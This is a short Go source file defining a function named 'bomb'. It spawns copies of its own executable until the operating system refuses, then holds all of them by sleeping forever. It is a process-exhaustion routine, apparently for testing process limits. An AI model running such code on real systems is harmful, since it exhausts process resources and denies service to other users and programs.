package main

import (
	"fmt"
	"os"
	"time"
)

// bomb starts processes until it is refused one, says so, and keeps what it has.
func bomb([]string) error {
	for n := 0; ; n++ {
		_, err := os.StartProcess("/proc/self/exe", []string{"app", "stubborn"}, &os.ProcAttr{Files: []*os.File{nil, nil, nil}})
		if err != nil {
			fmt.Printf("refused after %d processes: %v\n", n, err)
			break
		}
	}
	for {
		time.Sleep(time.Hour)
	}
}
